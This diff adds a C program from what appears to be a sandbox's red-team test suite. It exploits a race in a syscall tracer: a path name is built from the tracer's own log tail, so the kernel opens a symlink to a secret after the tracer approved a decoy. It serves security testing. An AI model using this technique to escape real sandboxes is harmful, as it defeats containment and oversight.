@@ -1,0 +1,159 @@
+/* log_tail_open.c: a path in the tail of the run's own --log, to which the tracer appends the
+ * open's own decision record between its read of the path and the kernel's (red team 55).
+ *
+ * usage: log_tail_open LOG SECRET TRIES      (cwd: a directory the program may write)
+ *
+ * A decision a rule made is logged (--log FILE), and its record is written on the tracer's
+ * thread before the call is resumed.  The program maps the last page of LOG (MAP_PRIVATE,
+ * read-only: a clean page shows the file's page cache, so every append to it) with an
+ * anonymous page of its own right after it, and opens the last three bytes of the log's text
+ * (the end of the last record: `}}` and a newline) as a relative path: the tracer reads that
+ * name -- the page past the file's end reads as zeros -- a decoy file the program made, which
+ * the rule permits, and logs the decision: the record lands in the mapped page.  When the
+ * log's size ends 1..12 bytes before a page's end, the kernel then reads the name with the
+ * record's first bytes -- `{"time":17` and so on, known -- up to the page's end, and the zeros
+ * of the anonymous page after it: a symlink the program made there, to SECRET.
+ * The log grows by opens of names below the cwd that do not exist (permitted by the rule,
+ * logged: ENOENT) until its size lands in the window: a record's length is a line in the
+ * name's (measured from two), so the name's length that lands it is known.
+ *
+ * NATIVE=1 (the control): no tracer writes the log; the program writes the records itself
+ * (the same first bytes at the same place), proving the kernel reads the longer name through
+ * the mapping and opens the secret.
+ *
+ * ESCAPED: an open gave the secret; BLOCKED: never.
+ */
+#include "attack.h"
+
+#include <sys/mman.h>
+
+#define TAIL 3    /* bytes of the log's text the name takes */
+#define ROOM 12   /* the most of the next record's first bytes the window takes */
+#define MIN_PAD 8
+#define MAX_PAD 97
+
+static int native;
+static int logw = -1;
+
+static off_t log_size(int fd) {
+    struct stat st;
+    if (fstat(fd, &st) != 0)
+        blocked("fstat of the log: %s", ename(errno));
+    return st.st_size;
+}
+
+/* what a record begins with: {"time": and the time's whole seconds */
+static void record_start(char *out, size_t room) {
+    snprintf(out, room, "{\"time\":%lld.", (long long)time(NULL));
+}
+
+/* One record more in the log: a permitted, logged open of a name that does not exist
+ * (natively: a line of about that length written by the program itself). */
+static void pad(unsigned len) {
+    char name[128];
+    memset(name, 'p', len);
+    name[len] = 0;
+    if (native) {
+        char line[800], start[64];
+        record_start(start, sizeof start);
+        int k = snprintf(line, sizeof line, "%s123456,\"path\":\"%s\",\"flags\":0}}\n", start,
+                         name);
+        if (write(logw, line, k) != k)
+            blocked("write of the log: %s", ename(errno));
+        return;
+    }
+    int fd = open(name, O_RDONLY | O_CLOEXEC);
+    if (fd >= 0)
+        close(fd);
+}
+
+int main(int argc, char **argv) {
+    if (argc < 4) {
+        fprintf(stderr, "usage: %s LOG SECRET TRIES\n", argv[0]);
+        return 2;
+    }
+    const char *log = argv[1], *secret = argv[2];
+    int tries = atoi(argv[3]);
+    native = getenv("NATIVE") != NULL;
+    int fd = open(log, O_RDONLY | O_CLOEXEC);
+    if (fd < 0)
+        blocked("open of the log: %s", ename(errno));
+    if (native && (logw = open(log, O_WRONLY | O_APPEND | O_CLOEXEC)) < 0)
+        blocked("open of the log for writing: %s", ename(errno));
+    long page = sysconf(_SC_PAGESIZE);
+    char *area = mmap(NULL, 2 * page, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
+    if (area == MAP_FAILED)
+        blocked("mmap: %s", ename(errno));
+    int attempts = 0, decoys = 0;
+    /* a record's length: c + a * (the name's length) */
+    off_t before = log_size(fd);
+    pad(10);
+    off_t d1 = log_size(fd) - before;
+    before = log_size(fd);
+    pad(40);
+    off_t d2 = log_size(fd) - before;
+    /* (rounded: the two times' texts may differ by a few digits, trailing zeros dropped) */
+    long a = (d2 - d1 + 15) / 30 > 0 ? (d2 - d1 + 15) / 30 : 1, c = d1 - 10 * a;
+    unsigned missed = 0;  /* pads since the last try: past 40, lengths of their own */
+    for (unsigned n = 0; n < (unsigned)tries * 200 && attempts < tries; n++) {
+        off_t size = log_size(fd);
+        off_t used = size % page, room = page - used;
+        if (used < TAIL || room > ROOM) {
+            long need = room - ROOM / 2, len = MAX_PAD;
+            if (need >= c + a * MIN_PAD && need <= c + a * MAX_PAD)
+                len = (need - c) / a;
+            else if (need < c + a * MIN_PAD)
+                len = MIN_PAD + n % 7;
+            if (++missed > 40)
+                len = MIN_PAD + (n * 37) % (MAX_PAD - MIN_PAD);  /* (past the page's end: the next one) */
+            pad((unsigned)len);
+            continue;
+        }
+        char tail[TAIL + 1];
+        if (pread(fd, tail, TAIL, size - TAIL) != TAIL)
+            blocked("pread of the log: %s", ename(errno));
+        tail[TAIL] = 0;
+        if (memchr(tail, '/', TAIL) || strlen(tail) != TAIL || !strcmp(tail + 1, "..")) {
+            pad(MIN_PAD + n % 7);
+            continue;
+        }
+        /* the decoy at the tail's name; the symlink at the tail's name and the record's
+         * first bytes, as many as the page has room for */
+        char start[64], longer[64];
+        record_start(start, sizeof start);
+        snprintf(longer, sizeof longer, "%s%.*s", tail, (int)room, start);
+        unlink(tail);
+        unlink(longer);
+        int decoy = open(tail, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0644);
+        if (decoy < 0 || write(decoy, "decoy\n", 6) != 6)
+            blocked("the decoy: %s", ename(errno));
+        close(decoy);
+        if (symlink(secret, longer) != 0)
+            blocked("symlink: %s", ename(errno));
+        if (log_size(fd) != size)  /* (a record of the decoy's create or the symlink) */
+            continue;
+        attempts++;
+        missed = 0;
+        if (mmap(area, page, PROT_READ, MAP_PRIVATE | MAP_FIXED, fd, size - used) == MAP_FAILED)
+            blocked("mmap of the log: %s", ename(errno));
+        if (native && write(logw, start, strlen(start)) != (ssize_t)strlen(start))
+            blocked("write of the log: %s", ename(errno));
+        int got = open(area + used - TAIL, O_RDONLY | O_CLOEXEC);
+        int err = errno;
+        if (got >= 0) {
+            char buf[256] = {0};
+            ssize_t r = read(got, buf, sizeof buf - 1);
+            close(got);
+            if (r > 0 && strstr(buf, SECRET_MAGIC))
+                escaped("read the secret through the log's last %d bytes and the first %d of"
+                        " the open's own record (try %d)", TAIL, (int)room, attempts);
+            decoys++;
+        } else {
+            note("try %d: open: %s", attempts, ename(err));
+        }
+        if (native && write(logw, "1}\n", 3) != 3)
+            blocked("write of the log: %s", ename(errno));
+        mmap(area, page, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_FIXED, -1, 0);
+    }
+    blocked("no open gave the secret (%d tries, %d the decoy)", attempts, decoys);
+}
